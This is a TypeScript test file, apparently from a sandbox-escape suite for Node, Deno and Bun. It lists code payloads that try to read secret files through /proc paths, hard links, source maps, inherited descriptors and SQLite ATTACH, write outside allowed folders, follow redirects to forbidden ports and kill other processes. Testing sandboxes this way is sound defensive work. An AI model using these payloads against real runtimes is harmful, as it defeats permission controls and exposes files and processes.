// Where a runtime reads or writes beside its functions for files: excerpts of source in messages, profiles, logs of keys,
// routers, redirects of every client, caches, and methods of children that name another process.
import { escape, type Escape } from "../programs.ts";

const EXCERPTS = "messages that quote source read the file that a frame names";
const REDIRECTS = "CVE-2024-30260 and others: a redirect is a new request";
const CLIENTS = "a client with connections of its own";
const WRITERS = "what writes files itself";
const DESCRIPTORS = "descriptors of the caller";
const SIGNALS = "what sends signals itself";
const SQL = "SQLite opens files that its files name";
const CACHES = "a cache that a variable moves";
const LINKS = "links across the border";
const PASSED = "with flags and without a policy, a descriptor that the caller left open is a permission, as in Node";

const wait = "await sleep(700); process.exit(0)";
const to = (address: string): string =>
  `"http://127.0.0.1:" + place.allowedPort + "/to?" + encodeURIComponent(${address})`;
const other = '"http://127.0.0.1:" + place.otherPort + "/"';
const fileAddress = "pathToFileURL(secretFile).href";
/** A source map whose only source is `source`, with a mapping of the first line. */
const map = (source: string): string =>
  `JSON.stringify({ version: 3, sources: [${source}], names: [], mappings: "AAAA" })`;

export const corners: Escape[] = [
  // Excerpts.
  escape(
    "call sites by a source map",
    EXCERPTS,
    "secret",
    `process.setSourceMapsEnabled(true); fs.writeFileSync(work + "/m.cjs", 'module.exports = () => require("node:util").getCallSites(5, { sourceMap: true })\\n//# sourceMappingURL=' + path.relative(work, outside) + "/secret.map"); show(require(work + "/m.cjs")())`,
  ),
  escape(
    "findSourceMap of a file outside",
    EXCERPTS,
    "secret",
    `const Module = require("node:module"); process.setSourceMapsEnabled(true); fs.writeFileSync(work + "/m.cjs", "1\\n//# sourceMappingURL=" + path.relative(work, outside) + "/secret.map"); require(work + "/m.cjs"); show(Module.findSourceMap(work + "/m.cjs")?.payload)`,
  ),

  // Redirects.
  escape(
    "fetch of a redirect that was asked for by hand",
    REDIRECTS,
    "reached",
    `const response = await fetch(${to(other)}, { redirect: "manual" }); await fetch(response.headers.get("location")).catch(() => {}); ${wait}`,
  ),
  escape(
    "fetch of a redirect to a redirect",
    REDIRECTS,
    "reached",
    `await fetch(${to(to(other))}).catch(() => {}); ${wait}`,
  ),
  escape(
    "fetch of a redirect without a scheme",
    REDIRECTS,
    "reached",
    `await fetch(${to('"//127.0.0.1:" + place.otherPort + "/"')}).catch(() => {}); ${wait}`,
  ),
  escape(
    "fetch of a redirect in a worker",
    REDIRECTS,
    "reached",
    `const { Worker } = require("node:worker_threads"); new Worker("fetch(" + JSON.stringify(${to(other)}) + ").catch(() => {})", { eval: true }).on("error", () => {}); await sleep(1500); process.exit(0)`,
  ),
  escape(
    "an EventSource that is redirected",
    REDIRECTS,
    "reached",
    `const source = new EventSource(${to(other)}); source.onerror = () => {}; ${wait}`,
    { home: "deno" },
  ),
  escape(
    "a WebSocket that is redirected",
    REDIRECTS,
    "reached",
    `const socket = new WebSocket((${to(other)}).replace("http:", "ws:")); socket.onerror = () => {}; const response = await fetch(${to(other)}, { redirect: "follow", keepalive: true }).catch(() => {}); ${wait}`,
  ),
  escape(
    "fetch of a redirect with a body and a host",
    REDIRECTS,
    "reached",
    `await fetch(${to(other)}, { method: "POST", body: "x", headers: { host: "127.0.0.1:" + place.allowedPort } }).catch(() => {}); ${wait}`,
    { home: "bun" },
  ),
  escape(
    "an import of an address that is redirected to a file",
    REDIRECTS,
    "secret",
    `await import(${to('pathToFileURL(outside + "/module.cjs").href')}).catch(() => {}); await import(${to('pathToFileURL(outside + "/secret.json").href')}, { with: { type: "json" } }).then(show, () => {}); say(fs.readFileSync(secretFile))`,
    { home: "deno" },
  ),

  // Clients.
  escape(
    "a WebSocket with a proxy",
    CLIENTS,
    "reached",
    `try { new WebSocket("ws://127.0.0.1:" + place.allowedPort, { proxy: ${other} }).onerror = () => {}; } catch {} ${wait}`,
    { home: "bun" },
  ),
  escape(
    "Deno.connectTls",
    CLIENTS,
    "reached",
    `Deno.connectTls({ hostname: "127.0.0.1", port: place.otherPort }).catch(() => {}); ${wait}`,
    { home: "deno" },
  ),

  // Writers and readers of their own.
  escape(
    "Utf8Stream",
    WRITERS,
    "change",
    'try { const stream = new fs.Utf8Stream({ dest: outside + "/target", sync: true, append: true }); stream.write("x"); stream.flushSync(); } catch {} await sleep(200)',
  ),
  escape(
    "a log of keys of a worker",
    WRITERS,
    "change",
    'const { Worker } = require("node:worker_threads"); try { new Worker("require(\'node:tls\')", { eval: true, execArgv: ["--tls-keylog=" + outside + "/target", "--redirect-warnings=" + outside + "/target"] }).on("error", () => {}); } catch {} fs.writeFileSync(outside + "/target", "x")',
  ),
  escape(
    "a redirection of warnings by a variable",
    WRITERS,
    "change",
    'process.env.NODE_REDIRECT_WARNINGS = outside + "/target"; process.emitWarning("x"); const { Worker } = require("node:worker_threads"); new Worker("process.emitWarning(\'y\')", { eval: true, env: { NODE_REDIRECT_WARNINGS: outside + "/target" } }).on("error", () => {}); await sleep(800); fs.appendFileSync(outside + "/target", "x")',
  ),
  escape(
    "a report on an uncaught error",
    WRITERS,
    "change",
    'try { process.report.directory = outside; process.report.filename = "target"; process.report.reportOnUncaughtException = true; } catch {} setTimeout(() => { throw new Error("x"); }); await sleep(1000)',
  ),
  escape(
    "a report on a signal",
    WRITERS,
    "change",
    'try { process.report.directory = outside; process.report.reportOnSignal = true; process.report.signal = "SIGUSR2"; process.on("SIGUSR2", () => {}); process.kill(process.pid, "SIGUSR2"); } catch {} await sleep(900)',
  ),
  escape(
    "a report with a name that leads out",
    WRITERS,
    "change",
    'try { process.report.directory = work; process.report.writeReport("../../outside/target"); } catch {}',
  ),
  escape(
    "a run of tests that keeps its failures",
    WRITERS,
    "change",
    'fs.writeFileSync(work + "/a.test.cjs", "require(\'node:test\')(\'a\', () => { throw 1; })"); try { const stream = require("node:test").run({ files: [work + "/a.test.cjs"], isolation: "none", rerunFailuresFilePath: outside + "/empty/failures" }); stream.on("error", () => {}); stream.resume(); } catch {} await sleep(1500)',
  ),
  escape(
    "a run of tests in a folder",
    WRITERS,
    "secret",
    'try { for await (const event of require("node:test").run({ cwd: outside, globPatterns: ["*.tsx", "name-*", "*.cjs"], isolation: "none" })) show(event.data); } catch (error) { say(error.message); }',
  ),
  escape(
    "owners",
    "CVE-2024-36137: fchown and fchmod of what may only be read",
    "change",
    'try { fs.lchownSync(outside + "/target", 1, 1); } catch {} try { fs.chownSync(outside + "/target", 1, 1); } catch {} try { await fs.promises.lchown(outside + "/target", 2, 2); } catch {}',
  ),

  // Descriptors of the caller.
  escape(
    "a socket of a descriptor",
    DESCRIPTORS,
    "secret",
    `try { new net.Socket({ fd: 3, readable: true }).on("data", show).on("error", () => {}); } catch {} try { fs.createReadStream("", { fd: 3 }).on("data", show).on("error", () => {}); } catch {} ${wait}`,
    { notHeldBy: { deno: PASSED, node: PASSED } },
  ),
  escape("Bun.file of a descriptor", DESCRIPTORS, "secret", `say(await Bun.file(3).text())`, { home: "bun" }),
  escape("openAsBlob of a descriptor", DESCRIPTORS, "secret", `say(await (await fs.openAsBlob("/dev/fd/3")).text())`),
  escape(
    "a terminal of a descriptor",
    DESCRIPTORS,
    "secret",
    `try { new (require("node:tty").ReadStream)(3).on("data", show).on("error", () => {}); } catch {} try { fs.readSync(3, globalThis.bytes = Buffer.alloc(99)); show(globalThis.bytes); } catch {} ${wait}`,
    { notHeldBy: { deno: PASSED, node: PASSED } },
  ),
  escape(
    "WASI with a descriptor as its input",
    DESCRIPTORS,
    "secret",
    'const { WASI } = require("node:wasi"); const wasi = new WASI({ version: "preview1", stdin: 3 }); const memory = new WebAssembly.Memory({ initial: 1 }); try { wasi.initialize({ exports: { memory } }); } catch (error) { say(error); } const view = new DataView(memory.buffer); view.setUint32(0, 64, true); view.setUint32(4, 200, true); wasi.wasiImport.fd_read(0, 0, 1, 32); show(Buffer.from(memory.buffer, 64, 200))',
    { notHeldBy: { deno: PASSED, node: PASSED } },
  ),

  // Signals.
  escape(
    "a child with another number",
    SIGNALS,
    "killed",
    `const { ChildProcess } = require("node:child_process"); const child = new ChildProcess(); child.pid = place.victim; child._handle = { pid: place.victim, kill(signal) { return process._kill?.(place.victim, signal); } }; try { child.kill("SIGKILL"); } catch {} try { process._kill(place.victim, 9); } catch {} ${wait}`,
  ),
  escape(
    "a signal of process.binding",
    SIGNALS,
    "killed",
    `try { process.binding("process_methods")._kill(place.victim, 9); } catch {} try { process.kill(BigInt(place.victim), 9); } catch {} try { process.kill(String(place.victim), "SIGKILL"); } catch {} ${wait}`,
  ),

  // SQLite.
  escape(
    "ATTACH by a name with parameters",
    SQL,
    "secret",
    'const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync(":memory:"); db.exec("attach \'file://localhost" + outside + "/secret.db?mode=ro&immutable=1&nolock=1\' as a"); show(db.prepare("select * from a.t").all())',
  ),
  escape(
    "ATTACH by a database with another file system",
    SQL,
    "secret",
    'const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync("file:" + work + "/a.db?vfs=unix-none"); db.prepare("attach ? as a").run(Buffer.from(outside + "/secret.db\\0x").toString("latin1")); show(db.prepare("select * from a.t").all())',
  ),
  escape(
    "a journal that is a link",
    SQL,
    "change",
    'const { DatabaseSync } = require("node:sqlite"); const name = work + "/a.db"; fs.symlinkSync(outside + "/target", name + "-journal"); fs.symlinkSync(outside + "/target2", name + "-wal"); try { const db = new DatabaseSync(name); db.exec("pragma journal_mode = persist; create table t (a); insert into t values (1)"); db.exec("pragma journal_mode = wal; insert into t values (2)"); } catch {} fs.writeFileSync(outside + "/target", "x")',
  ),
  escape(
    "a backup to an address",
    SQL,
    "change",
    'const { DatabaseSync, backup } = require("node:sqlite"); const db = new DatabaseSync(":memory:"); db.exec("create table t (a)"); for (const to of [pathToFileURL(outside + "/new.db"), Buffer.from(outside + "/new2.db"), work + "/../../outside/new3.db"]) await Promise.resolve().then(() => backup(db, to)).catch(() => {})',
  ),
  escape(
    "VACUUM INTO an address",
    SQL,
    "change",
    'const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync("file:" + work + "/v.db?cache=private"); db.exec("create table t (a)"); for (const to of ["file:" + outside + "/new.db", "file:" + outside + "/new2.db?vfs=unix-none", work + "/../../outside/new3.db"]) try { db.prepare("vacuum into ?").run(to); } catch {}',
  ),
  escape(
    "VACUUM INTO by Bun",
    SQL,
    "change",
    'const { Database } = require("bun:sqlite"); const db = new Database(work + "/v.db"); db.exec("create table t (a)"); for (const to of [outside + "/new.db", "file:" + outside + "/new2.db"]) try { db.exec("vacuum into \'" + to + "\'"); } catch {}',
    { home: "bun" },
  ),

  // Caches that a variable moves.
  escape(
    "a cache of addresses that a variable moves",
    CACHES,
    "change",
    'for (const name of ["DENO_DIR", "XDG_CACHE_HOME", "HOME", "BRIO_PACKAGES"]) { try { process.env[name] = outside + "/empty"; } catch {} } await import("http://127.0.0.1:" + place.allowedPort + "/module").catch(() => {}); await sleep(200); fs.writeFileSync(outside + "/empty/x", "")',
    { home: "deno" },
  ),
  escape(
    "packages that a variable moves",
    CACHES,
    "change",
    'for (const name of ["BRIO_PACKAGES", "XDG_CACHE_HOME", "HOME", "npm_config_cache"]) { try { process.env[name] = outside + "/empty"; } catch {} } process.env.npm_config_registry = "http://127.0.0.1:" + place.allowedPort + "/to?x="; await import("npm:left-pad@1.3.0").catch(() => {}); await sleep(200); fs.writeFileSync(outside + "/empty/x", "")',
    { home: "deno" },
  ),
  escape(
    "variables of import.meta",
    "variables by another name",
    "secret",
    'fs.writeFileSync(work + "/v.mjs", "console.log(import.meta.env, import.meta.env?." + secret + ")"); await import(work + "/v.mjs").catch(() => {}); say(process.env[secret])',
    { home: "bun" },
  ),

  // Links.
  escape(
    "a hard link of an opened file",
    LINKS,
    "secret",
    'for (const from of ["/proc/self/fd/3", "/dev/fd/3", "/proc/thread-self/fd/3", "/proc/self/fd/4/secret.txt", "/proc/self/root" + secretFile]) { const to = work + "/hard" + from.length; try { fs.linkSync(from, to); say(fs.readFileSync(to)); } catch {} } fs.linkSync(secretFile, work + "/hard"); say(fs.readFileSync(work + "/hard"))',
  ),
  escape(
    "a hard link that replaces a link",
    LINKS,
    "secret",
    'fs.symlinkSync(work + "/none", work + "/a"); const other = fs.existsSync("/proc/self/root" + secretFile) ? "/proc/self/root" + secretFile : "/proc/1/root" + secretFile; try { fs.copyFileSync(other, work + "/b", fs.constants.COPYFILE_FICLONE); say(fs.readFileSync(work + "/b")); } catch {} await fs.promises.link(other, work + "/c"); say(await fs.promises.readFile(work + "/c"))',
  ),
  escape(
    "the folder of a process by its tasks",
    LINKS,
    "secret",
    'for (const task of fs.readdirSync("/proc/self/task")) for (const name of ["root" + secretFile, "cwd/outside/secret.txt", "fd/3", "fd/4/secret.txt"]) try { say(fs.readFileSync("/proc/self/task/" + task + "/" + name)); } catch {} for (const name of ["/proc/self/map_files", "/proc/self/fdinfo/3"]) try { show(fs.readdirSync(name)); } catch {}',
  ),
];
